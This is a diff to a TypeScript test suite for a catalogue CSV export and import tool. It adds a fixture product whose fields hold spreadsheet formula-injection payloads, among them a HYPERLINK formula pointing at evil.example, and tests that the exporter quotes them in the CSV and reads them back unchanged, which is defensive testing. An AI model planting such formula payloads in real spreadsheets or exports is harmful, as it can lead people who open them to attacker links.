@@ -6,6 +6,8 @@ import { waitsTimeout } from '../support/waiting.js';
 import type { CatalogueOrigin } from './catalogue-origin.js';
 import { BUILT, catalogueFixture, createStores, cliEnv, prodimg, productsOfCsv } from './transfer-cli.js';
 
+const FORMULAS = { title: '=HYPERLINK("http://evil.example/?x","Click")', handle: 'formulas', description: '@SUM(A1:A2)', vendor: "'=already quoted", tags: '+1+1' };
+
 /** Products in the API's shape with what a spreadsheet makes hard: quotes, commas, line breaks, accents, three options, weights, no options. */
 function sourceProducts(origin: CatalogueOrigin): unknown[] {
   const img = (n: number) => origin.url(`/img/${500 + n}.jpg`);
@@ -34,6 +36,12 @@ function sourceProducts(origin: CatalogueOrigin): unknown[] {
     },
     { title: 'Plain tote', handle: 'plain-tote', published: false, images: [{ src: img(4), alt: 'Tote' }], variants: [{ price: '5.00', sku: 'TOTE', weight: '0.3', weight_unit: 'kg' }] },
     { title: 'No images at all', handle: 'no-images', vendor: 'Acme' },
+    // What a spreadsheet would run as formulas: quoted in the CSV, read back exactly.
+    {
+      ...FORMULAS,
+      images: [{ src: img(5), alt: '-minus alt' }],
+      variants: [{ price: '5.00', sku: '=1+2', barcode: '@x', weight: '1', weight_unit: 'kg', inventory_quantity: -5 }],
+    },
   ];
 }
 
@@ -68,7 +76,7 @@ describe.skipIf(!BUILT)('export, then import into another store: the same produc
       expect(imported.status, imported.stderr + imported.stdout).toBe(0);
       const [before, after] = await Promise.all([exportOf('source', 'csv'), exportOf(target, 'csv')]);
       const products = productsOfCsv(readFileSync(before, 'utf8'));
-      expect(products.map(([handle]) => handle)).toEqual(['', 'creme-deluxe', 'no-images', 'plain-tote']);
+      expect(products.map(([handle]) => handle)).toEqual(['', 'creme-deluxe', 'formulas', 'no-images', 'plain-tote']);
       expect(productsOfCsv(readFileSync(after, 'utf8'))).toEqual(products);
     }, waitsTimeout(4));
 
@@ -85,6 +93,22 @@ describe.skipIf(!BUILT)('export, then import into another store: the same produc
       expect(creme.variants.map((v: { image_id: string }) => creme.images.findIndex((image: { id: string }) => image.id === v.image_id))).toEqual([1, 2]);
       const tote = jsonl.find((product) => product.handle === 'plain-tote')!;
       expect([tote.published, tote.has_only_default_variant, tote.variants[0].price, tote.variants[0].sku]).toEqual([false, true, '5.00', 'TOTE']);
+    });
+
+    it('writes formula-like text quoted in the CSV (numbers stay numbers) and reads it back exactly', async () => {
+      const csv = readFileSync(await exportOf('source', 'csv'), 'utf8');
+      const row = csv.split('\n').find((line) => line.startsWith('formulas,'))!;
+      expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x"",""Click"")"`);
+      expect(row).toContain(",'@SUM(A1:A2),''=already quoted,'+1+1,");
+      expect(row).toContain(",'=1+2,");
+      // Inventory -5 and the price are numbers: unquoted.
+      expect(row).toContain(',-5,5.00,');
+      expect(row).toContain(",'-minus alt,");
+      const jsonl = readFileSync(await exportOf('from-csv', 'jsonl'), 'utf8').trim().split('\n').map((line) => JSON.parse(line) as Record<string, any>);
+      const formulas = jsonl.find((product) => product.handle === 'formulas')!;
+      expect({ title: formulas.title, handle: formulas.handle, description: formulas.description, vendor: formulas.vendor, tags: formulas.tags }).toEqual(FORMULAS);
+      expect(formulas.images.map((image: { alt: string }) => image.alt)).toEqual(['-minus alt']);
+      expect([formulas.variants[0].sku, formulas.variants[0].barcode, formulas.variants[0].inventory_quantity]).toEqual(['=1+2', '@x', -5]);
     });
   });
 });
